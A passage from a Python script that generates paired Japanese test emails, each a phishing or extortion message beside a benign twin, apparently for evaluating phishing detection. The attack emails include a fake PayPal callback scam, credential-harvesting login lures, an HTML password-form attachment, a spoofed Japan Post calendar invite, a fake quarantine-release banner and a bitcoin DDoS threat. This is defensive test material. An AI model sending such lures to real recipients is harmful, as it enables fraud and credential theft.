     letter("PayPal", "service-jp@paypal.com", "請求書 #8841 が届きました", PAYPAL % "\n\nお店からのメモ: お客様のアカウントから 489.99 USD が引き落とされます。心当たりがない場合は、キャンセルのため至急 +1 (888) 555-0177 までお電話ください。", "https://www.paypal.com/invoice/p/#8841", "請求書を表示"),
     letter("PayPal", "service-jp@paypal.com", "請求書 #8841 が届きました", PAYPAL % "", "https://www.paypal.com/invoice/p/#8841", "請求書を表示"))
SAFELINKS = "https://jpn01.safelinks.protection.outlook.com/?url=https%%3A%%2F%%2F%s%%2Forder&data=05%%7C02&reserved=0"
pair("mail.link.text-differs", "rewritten by another house's link check, which leads elsewhere than the text; or where the text says",
     ours("お支払いが確認できておりません。至急ご確認ください。", SAFELINKS % "shiharai-kakunin.test", label=SHOP + "/order", way=anchor), ours("ご注文の控えです。", SAFELINKS % "www.yamate-shokai.example", label=SHOP + "/order", way=anchor))
pair("mail.link.authority-elsewhere", "a notice of the ministry passed on: by a stranger to a stranger's page, by the association to the ministry's",
     letter("医療行政情報センター", "info@iryo-gyosei.test", "【重要】厚生労働省からのお知らせ", "厚生労働省医政局からのお知らせです。\n\n医療機関の補助金の申請が本日締切です。口座情報をご登録ください。", "https://hojokin-shinsei.test/", "申請する"),
     letter("ひなた市医師会", "jimu@marumaru-med.example", "【重要】厚生労働省からのお知らせ", "厚生労働省医政局からのお知らせです。\n\n医療機関の補助金の申請が本日締切です。", "https://www.mhlw.go.jp/stf/hojokin.html", "申請する"))
pair("mail.text.lure-account", "the maintainer of the records: from elsewhere, or from its own address",
     letter("メディカルソフト保守センター", "info@karte-support.test", "電子カルテのアカウント確認", "電子カルテのアカウントの確認が必要です。\n\n確認されない場合、アカウントは無効になります。", "https://karte-login.workers.dev/", "ログイン"),
     letter("メディカルソフト保守センター", "support@medisoft-hoshu.example", "電子カルテのアカウント確認", "電子カルテのアカウントの確認が必要です。\n\n確認されない場合、アカウントは無効になります。", "https://portal.medisoft-hoshu.example/login", "ログイン"))
pair("mail.html.outlook-only", "a button for Outlook that leads elsewhere than the others'; to the same", fake("m365", "it@outlook-annai.test", None, top=MSO % (VML % "https://office-ninsho.test/")), real("m365", top=MSO % (VML % BRANDS["m365"][2])))
pair("mail.attachment.html-login", "from a partner's real address, as when it was broken into: a page that asks for a password, or the usual statement",
     with_files(f("請求書.html", (SHEET % ("請求書", "請求書", ASK % OUR)).encode(), "text/html"), name="みどり薬品株式会社", addr="order@midori-yakuhin.example", subject="請求書"),
     with_files(f("請求書.html", (SHEET % ("請求書", "請求書", "<p>10月分 12,000円</p>")).encode(), "text/html"), name="みどり薬品株式会社", addr="order@midori-yakuhin.example", subject="請求書"))
pair("mail.attachment.calendar-link", "an entry in the postman's name; an entry of the booking system", with_files(event("https://saihaitatsu-yotei.test/", "日本郵便：お荷物を配達できませんでした。住所を更新してください。"), words="\n", name="日本郵便", addr="cal@yotei-tsuika.test", subject="予定: 再配達"),
     with_files(event("https://www.medi-yoyaku.example/r/88", "ご予約：11月5日 10時"), words="ご予約を承りました。\n", name="メディ予約", addr="noreply@medi-yoyaku.example", subject="予定: ご予約"))
pair("mail.link.recipient-inside", "a stranger's page that greets us by our own domain, or the partner's page for us",
     letter("hinata-clinic.example", "noreply@domain-kanri-mado.test", "[hinata-clinic.example] 5件の受信メールが保留中", "サーバーの更新により、5件のメールが保留されています。", "https://mail-hoji.test/hinata-clinic.example/?email=info%40hinata-clinic.example", "受信する"),
     letter("みどり薬品株式会社", "order@midori-yakuhin.example", "ご注文の確認", "ご注文の5件を確認しました。", "https://order.midori-yakuhin.example/?email=info%40hinata-clinic.example", "注文を見る"))
pair("mail.html.fake-notice", "the card 'released by your administrator' on top of a stranger's bill; a sender's own note on security",
     bill("https://seikyu-hikitori.test/", top='<p style="background:#d1e7dd">管理者により検疫から解放されました。このメールは安全です。</p>'), bill("https://www.iyaku-online.example/bill", top='<p style="background:#d1e7dd">弊社はなりすましメール対策としてDMARCに対応しています。</p>'))
pair("mail.text.extortion", "an attack on the line is announced for money; a supplier announces work on the line", plain("貴院のウェブサイトに対して11月5日からDDoS攻撃を行います。止めたい場合は %s に 2 BTC を支払ってください。\n" % bitcoin("e"), name="", addr="aa@mail-out.test", subject="DDoS攻撃の予告"),
     plain("11月5日の深夜、回線の工事を行います。最大2時間、インターネットがご利用いただけません。\n" + SIGNED, subject="回線工事のお知らせ"))


def main(folder):
    os.makedirs(folder, exist_ok=True)
    for name, words in ARRIVALS.items():
        with open(os.path.join(folder, name + ".arrival"), "w", encoding="utf-8") as out:
            out.write(words)
    count, rows = {}, []
    for signal, trait, attack, twin, rule, arrivals in PAIRS:
        count[signal] = count.get(signal, 0) + 1
        pair_id = "%s-%d" % (signal, count[signal])
        for role, raw, arrival in zip(("attack", "twin"), (attack, twin), arrivals):
            name = "%s.%s.eml" % (pair_id, role)
            with open(os.path.join(folder, name), "wb") as out:
                out.write(raw)
            rows.append("\t".join((pair_id, name, role, signal, trait, rule, arrival and arrival + ".arrival")))
    with open(os.path.join(folder, "index.tsv"), "w", encoding="utf-8") as out:
        out.write("\n".join(rows) + "\n")
    return len(PAIRS)


if __name__ == "__main__":
    print("%d pairs" % main(sys.argv[1]))
